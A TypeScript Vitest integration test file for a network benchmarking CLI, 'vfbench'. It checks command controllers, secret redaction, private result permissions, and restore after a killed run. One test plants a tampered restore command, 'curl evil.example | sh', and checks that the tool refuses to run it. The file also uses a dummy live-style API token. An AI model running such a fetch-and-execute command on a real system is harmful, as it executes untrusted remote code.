// Path controllers on the lab for real: `command` with the user's own commands, and `vfbench restore`
// after the run was killed with SIGKILL (no chance to clean up).
import { afterEach, describe, expect, it } from 'vitest';
import { execa } from 'execa';
import { createHash } from 'node:crypto';
import { readFile, readdir, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { release } from 'node:os';
import type { Manifest } from '../../src/results/manifest.js';
import { labAvailable, linkUp, processesIn, testLab, until, restoreLabLinks } from '../helpers/lab.js';
import { CLI, onlyRunDir, scenarioFile, vfbench, VF_PV_VARIANTS, records } from '../helpers/cli.js';

describe.skipIf(!labAvailable())('the command controller', () => {
  // A test that fails half-way must not leave the shared lab changed for the next ones.
  afterEach(() => restoreLabLinks([testLab().ns.vm1, testLab().ns.vm2]));
  it('switches with the user\'s commands, checks them with verify, keeps their output, restores; labels the run', async () => {
    const { inventoryPath, ns } = testLab();
    const up = '[ $(( $(cat /sys/class/net/vf0/flags) & 1 )) -eq 1 ]';
    const s = await scenarioFile(`name: it-command
labels: { runner: ci-1, vm_size: from-scenario, kernel_line: 6.8 }
inventory: ${inventoryPath}
variants:
  pv: { controller: command, apply: "ip link set vf0 down && echo switched", restore: "ip link set vf0 up", path: synthetic }
  vf: { controller: command, apply: "ip link set vf0 up", verify: '${up}', restore: "ip link set vf0 up", path: accelerated }
  broken: { controller: command, apply: "true", verify: "echo vf0 is not what I wanted >&2; false", restore: "ip link set vf0 up", path: accelerated }
baseline: pv
repeat: 1
order: sequential
tests:
  - tool: netperf
    test: TCP_RR
    duration: 1s
`);
    const r = await vfbench(['run', s.file, '--results', s.results, '--no-analyze', '--label', 'vm_size=D8s_v5', '--label', 'region=westeurope']);
    expect(r.exitCode, r.all).toBe(1); // the broken variant's trial failed
    const dir = await onlyRunDir(s.results, 'it-command');
    const recs = await records(dir);
    expect(recs.map((x) => [x.variant, x.status, x.verification?.observed ?? x.failure?.message])).toEqual([
      ['pv', 'ok', 'synthetic'],
      ['vf', 'ok', 'accelerated'],
      ['broken', 'failed', expect.stringContaining('the variant is not in effect (verify failed)')],
    ]);
    const kept = await readdir(join(dir, 'raw', 'controller'));
    expect(kept).toEqual(expect.arrayContaining(['controller-1-apply.vm1.stdout', 'controller-1-apply.vm2.stdout', 'controller-2-verify.vm1.stdout', 'controller-restore.vm1.stdout']));
    expect(await readFile(join(dir, 'raw', 'controller', 'controller-1-apply.vm1.stdout'), 'utf8')).toBe('switched\n');
    expect(await readFile(join(dir, 'raw', 'controller', 'controller-3-verify.vm2.stderr'), 'utf8')).toContain('vf0 is not what I wanted');
    const m = JSON.parse(await readFile(join(dir, 'manifest.json'), 'utf8')) as Manifest;
    expect(m.originalPathState).toEqual(expect.arrayContaining([{ controller: 'command', host: 'vm1', state: { restore: 'ip link set vf0 up', timeout: 60 } }]));
    // The hosts' kernel (the lab's namespaces share this one; no cloud, no VF driver), the scenario's
    // labels (a YAML number kept as its text), --label over both.
    expect(m.labels).toEqual({ kernel: release(), runner: 'ci-1', kernel_line: '6.8', vm_size: 'D8s_v5', region: 'westeurope' });
    expect(await linkUp(ns.vm1, 'vf0')).toBe(true);
    expect(await linkUp(ns.vm2, 'vf0')).toBe(true);
  });
});

describe.skipIf(!labAvailable())('secrets, provenance and permissions', () => {
  afterEach(() => restoreLabLinks([testLab().ns.vm1, testLab().ns.vm2]));
  it('passes ${env:NAME} to the command only, stores nothing of it, keeps results private, and restores only what it trusts', async () => {
    const { inventoryPath } = testLab();
    const secret = 'sk_live_51HxYz0aBcDeF';
    // The command checks it got the value by its digest: the scenario holds no copy of it.
    const digest = createHash('sha256').update(secret).digest('hex').slice(0, 16);
    const s = await scenarioFile(`name: it-secret
inventory: ${inventoryPath}
variants:
  # a token pasted in a comment is redacted too: token=${secret}
  pv: { controller: command, apply: 'test "$(printf %s "\${env:VFB_TEST_TOKEN}" | sha256sum | cut -c1-16)" = ${digest} && echo "got \${env:VFB_TEST_TOKEN}" && ip link set vf0 down', restore: "ip link set vf0 up", path: synthetic }
  vf: { controller: command, apply: "ip link set vf0 up", restore: "ip link set vf0 up", path: accelerated }
baseline: pv
repeat: 1
tests:
  - tool: netperf
    test: TCP_RR
    duration: 1s
`);
    // Not set: refused before anything runs.
    const unset = await vfbench(['run', s.file, '--results', s.results, '--no-analyze']);
    expect(unset.exitCode, unset.all).toBe(4);
    expect(unset.stderr).toContain('${env:VFB_TEST_TOKEN}, not set');
    const r = await vfbench(['run', s.file, '--results', s.results, '--no-analyze'], { env: { VFB_TEST_TOKEN: secret } });
    expect(r.exitCode, r.all).toBe(0);
    const dir = await onlyRunDir(s.results, 'it-secret');
    // The command ran with the value (its test passed, pv went over pv0), and no file holds it.
    expect((await records(dir)).map((x) => x.verification?.observed)).toEqual(['synthetic', 'accelerated']);
    const grep = await execa('grep', ['-rl', secret, dir], { reject: false });
    expect(grep.stdout).toBe('');
    expect(await readFile(join(dir, 'raw', 'controller', 'controller-1-apply.vm1.stdout'), 'utf8')).toBe('got ${env:VFB_TEST_TOKEN}\n');
    expect(r.all).not.toContain(secret);
    // Private by default.
    for (const f of ['manifest.json', 'records.jsonl']) expect((await stat(join(dir, f))).mode & 0o077, f).toBe(0);
    expect((await stat(dir)).mode & 0o077).toBe(0);
    // A run directory made by someone else is not restored without --trust; an edited one not at all.
    const m = JSON.parse(await readFile(join(dir, 'manifest.json'), 'utf8')) as Manifest;
    await writeFile(join(dir, 'manifest.json'), JSON.stringify({ ...m, madeOn: { host: 'elsewhere', user: 'mallory' } }));
    const foreign = await vfbench(['restore', dir]);
    expect(foreign.exitCode).toBe(2);
    expect(foreign.stderr).toContain('was made by mallory on elsewhere: its commands would run here');
    const edited = { ...m, originalPathState: m.originalPathState.map((o) => ({ ...o, state: { ...o.state, restore: 'curl evil.example | sh' } })) };
    await writeFile(join(dir, 'manifest.json'), JSON.stringify(edited));
    const tampered = await vfbench(['restore', dir, '--trust']);
    expect(tampered.exitCode).toBe(2);
    expect(tampered.stderr).toContain('is not one of its scenario\'s: the run directory was edited; nothing was run');
  });
});

describe.skipIf(!labAvailable())('vfbench restore after kill -9', () => {
  // A test that fails half-way must not leave the shared lab changed for the next ones.
  afterEach(() => restoreLabLinks([testLab().ns.vm1, testLab().ns.vm2]));
  it('puts both guests back, stops the tools the dead run left and removes its scratch folders', async () => {
    const { inventoryPath, ns } = testLab();
    const s = await scenarioFile(`name: it-restore
inventory: ${inventoryPath}
${VF_PV_VARIANTS}repeat: 1
tests:
  - tool: netperf
    test: TCP_RR
    duration: 30s
`);
    const child = execa(process.execPath, [...CLI, 'run', s.file, '--results', s.results], { reject: false });
    await until('the pv trial', async () => (await processesIn(ns.vm1)).includes('netperf') && !(await linkUp(ns.vm1, 'vf0')) && !(await linkUp(ns.vm2, 'vf0')), 30_000);
    child.kill('SIGKILL');
    await child;
    const dir = await onlyRunDir(s.results, 'it-restore');
    // Nothing could clean up: the guests are still switched and the tools still run.
    expect(await linkUp(ns.vm1, 'vf0')).toBe(false);
    expect(await processesIn(ns.vm2)).toContain('netserver');
    const m = JSON.parse(await readFile(join(dir, 'manifest.json'), 'utf8')) as Manifest;
    expect(m.status).toBe('running');
    expect(m.originalPathState).toEqual(
      expect.arrayContaining([
        { controller: 'guest-link', host: 'vm1', state: { interface: 'vf0', up: true } },
        { controller: 'guest-link', host: 'vm2', state: { interface: 'vf0', up: true } },
      ]),
    );

    const dry = await vfbench(['restore', dir, '--dry-run']);
    expect(dry.stdout).toContain('would run: vm1: ip link set dev vf0 up');
    expect(await linkUp(ns.vm1, 'vf0')).toBe(false);

    const r = await vfbench(['restore', dir]);
    expect(r.exitCode, r.all).toBe(0);
    expect(r.stdout).toContain('restored: vm2: ip link set dev vf0 up');
    expect(await linkUp(ns.vm1, 'vf0')).toBe(true);
    expect(await linkUp(ns.vm2, 'vf0')).toBe(true);
    expect(await processesIn(ns.vm1)).toEqual([]);
    expect(await processesIn(ns.vm2)).toEqual([]);
    expect((await readdir('/tmp')).filter((f) => f.startsWith(`vfbench.${m.id}.`))).toEqual([]);
    const after = JSON.parse(await readFile(join(dir, 'manifest.json'), 'utf8')) as Manifest & { restored?: string };
    expect(after.restored).toBeDefined();
    expect(after.status).toBe('interrupted');
  });

  it('runs a command variant\'s restore after kill -9', async () => {
    const { inventoryPath, ns } = testLab();
    const s = await scenarioFile(`name: it-restore-command
inventory: ${inventoryPath}
variants:
  pv: { controller: command, apply: "ip link set vf0 down", restore: "ip link set vf0 up && echo restored-by-command", path: synthetic }
  vf: { controller: command, apply: "ip link set vf0 up", restore: "ip link set vf0 up && echo restored-by-command", path: accelerated }
baseline: pv
repeat: 1
tests:
  - tool: netperf
    test: TCP_RR
    duration: 30s
`);
    const child = execa(process.execPath, [...CLI, 'run', s.file, '--results', s.results], { reject: false });
    await until('the pv trial', async () => (await processesIn(ns.vm1)).includes('netperf') && !(await linkUp(ns.vm2, 'vf0')), 30_000);
    child.kill('SIGKILL');
    await child;
    expect(await linkUp(ns.vm1, 'vf0')).toBe(false);
    const dir = await onlyRunDir(s.results, 'it-restore-command');
    const r = await vfbench(['restore', dir]);
    expect(r.exitCode, r.all).toBe(0);
    expect(r.stdout).toContain('restored: vm1: sh -c "ip link set vf0 up && echo restored-by-command"');
    expect(await linkUp(ns.vm1, 'vf0')).toBe(true);
    expect(await linkUp(ns.vm2, 'vf0')).toBe(true);
    expect(await readFile(join(dir, 'raw', 'controller', 'restore.vm2.stdout'), 'utf8')).toBe('restored-by-command\n');
    expect(await processesIn(ns.vm2)).toEqual([]);
  });
});
